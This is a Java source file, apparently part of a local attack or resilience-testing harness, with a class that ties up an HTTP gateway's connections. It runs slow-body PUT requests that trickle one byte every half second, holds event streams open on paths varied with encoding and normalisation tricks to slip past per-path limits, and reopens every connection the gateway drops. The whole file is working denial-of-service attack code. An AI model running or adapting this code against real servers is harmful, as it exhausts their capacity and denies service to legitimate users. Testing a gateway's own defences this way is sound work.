package org.linzhang.local.attack;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/** Connections that send a byte of a body every half second, or read an event stream; each is opened again when it ends. */
final class HeldConnections implements AutoCloseable {

    private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);

    /** Other spellings of the path of the event stream. */
    private static final List<String> STREAMS = List.of(
            "/api/alerts/stream/",
            "/api/alerts/stream;x=1",
            "//api/alerts/stream",
            "/api/alerts/%73tream",
            "/api/./alerts//stream");

    private final URI gateway;
    private final String token;
    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();

    HeldConnections(URI gateway, String token) {
        this.gateway = gateway;
        this.token = token;
    }

    void holdSlowBodies(int number) {
        for (int i = 0; i < number; i++) {
            threads.submit(() -> repeat(this::sendSlowly));
        }
    }

    void holdStreams(int number) {
        for (int i = 0; i < number; i++) {
            var path = STREAMS.get(i % STREAMS.size());
            threads.submit(() -> repeat(() -> readStream(path)));
        }
    }

    private interface Connection {

        void hold() throws IOException, InterruptedException;
    }

    private static void repeat(Connection connection) {
        while (!Thread.currentThread().isInterrupted()) {
            try {
                connection.hold();
                Thread.sleep(BETWEEN_BYTES);
            } catch (IOException e) {
                // The gateway has ended this connection.
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void sendSlowly() throws IOException, InterruptedException {
        try (var socket = connect("PUT", "/api/incidents/" + UUID.randomUUID(), "Content-Length: 60000\r\n")) {
            while (true) {
                socket.getOutputStream().write('x');
                Thread.sleep(BETWEEN_BYTES);
            }
        }
    }

    private void readStream(String path) throws IOException {
        try (var socket = connect("GET", path, "")) {
            socket.getInputStream().readAllBytes();
        }
    }

    private Socket connect(String method, String path, String header) throws IOException {
        var socket = new Socket(gateway.getHost(), gateway.getPort());
        socket.getOutputStream()
                .write("%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n%s\r\n"
                        .formatted(method, path, gateway.getAuthority(), token, header)
                        .getBytes(StandardCharsets.US_ASCII));
        return socket;
    }

    @Override
    public void close() {
        threads.shutdownNow();
    }
}
